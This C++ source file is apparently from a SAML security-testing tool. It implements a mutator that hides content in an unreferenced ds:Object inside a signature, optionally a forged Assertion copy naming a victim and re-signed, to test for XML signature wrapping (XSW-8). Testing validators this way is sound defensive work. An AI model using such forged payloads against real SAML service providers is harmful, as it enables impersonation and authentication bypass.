// SPDX-License-Identifier: Apache-2.0
// signature.object_added — a ds:Object in a Signature (cpp-opensaml SignatureProfileValidator,
// pysaml2 sigver "object element is not present"; SIG-OBJECT): the Object is not referenced, so
// the signature still verifies, but it is a place to hide content (XSW-8) or a Manifest. saml-core
// §5.4: the SAML signature profile has no Object.
#include "mutators/signature/signature.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {

// Params: content (empty | text | assertion_copy: a forged copy of the Assertion without an ID),
// resign (true: re-signed with the IdP key afterwards, [idp-key]), target, victim.
core::Result<void> signature_object_added(Target& target) {
  namespace n = core::names;
  auto content = xsw::choice_param(target, "content", "empty|text|assertion_copy", "empty");
  auto victim = xsw::victim(target);
  auto resign = bool_param(target, "resign", false);
  if (!content || !victim || !resign) {
    return core::fail(!content ? content.error() : !victim ? victim.error() : resign.error());
  }
  auto signature = sig::chosen_signature(target);
  if (!signature) {
    return core::fail(signature.error());
  }
  xmlNode* object = core::append_element(*signature, n::ns_dsig, "", "Object");
  if (*content == "text") {
    core::set_text(object, "evil");
  } else if (*content == "assertion_copy") {
    xmlNode* assertion = xsw::first_assertion(target);
    if (assertion == nullptr) {
      return core::fail(core::Reason::mutator_not_applicable, "the Response carries no Assertion");
    }
    xmlNode* copy = xsw::copy_without_signature(assertion);
    core::remove_attribute(copy, "ID");
    xsw::write_victim(copy, *victim);
    xsw::append_child(object, copy);
  }
  return *resign ? xsw::resign(target, *signature) : core::Result<void>();
}

}  // namespace samlt::idp::mutators
